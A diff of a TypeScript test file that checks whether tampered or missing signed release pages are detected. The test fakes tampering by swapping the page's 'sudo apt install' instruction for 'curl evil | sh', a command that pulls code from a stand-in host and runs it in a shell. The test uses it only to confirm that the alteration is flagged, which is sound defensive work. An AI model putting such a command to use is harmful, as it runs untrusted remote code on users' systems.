@@ -161,23 +161,22 @@ test("what only an unsigned object tells gets no page and is not listed", async 
 test("an altered page is named, whatever number it states; a page of a number in force is another stack's", async () => {
   const store = copied();
   const published = await publish(store);
-  const keys = ["runtime stable"];
   const path = "channels/runtime-stable.html";
-  assert.deepEqual(await pageFindings(store, keys, published), []);
+  assert.deepEqual(await pageFindings(store, published), []);
   const page = text(store, path);
   const stating = (number: number) =>
     page.replace(/(slipway-serial" content=")\d+/, `$1${number}`).replace("sudo apt install", "curl evil | sh");
   for (const number of [1, 6, 7, 9999]) {
     store.objects.set(path, Buffer.from(stating(number)));
-    assert.deepEqual(await pageFindings(store, keys, published), [`${path}: altered`], `${number}`);
+    assert.deepEqual(await pageFindings(store, published), [`${path}: altered`], `${number}`);
   }
   store.objects.set(path, Buffer.from(page));
   const earlier = { ...published, [path]: { number: 5, sha256: "of the page before" } };
-  assert.deepEqual(await pageFindings(store, keys, earlier), []);
+  assert.deepEqual(await pageFindings(store, earlier), []);
   store.objects.set(path, Buffer.from(stating(6)));
-  assert.deepEqual(await pageFindings(store, keys, earlier), [`${path}: altered`]);
+  assert.deepEqual(await pageFindings(store, earlier), [`${path}: altered`]);
   store.objects.delete(path);
-  assert.deepEqual(await pageFindings(store, keys, published), [`${path}: missing`]);
+  assert.deepEqual(await pageFindings(store, published), [`${path}: missing`]);
 });
 
 test("each page is signed, and a byte of it, another key or another text behind it is noticed", async () => {
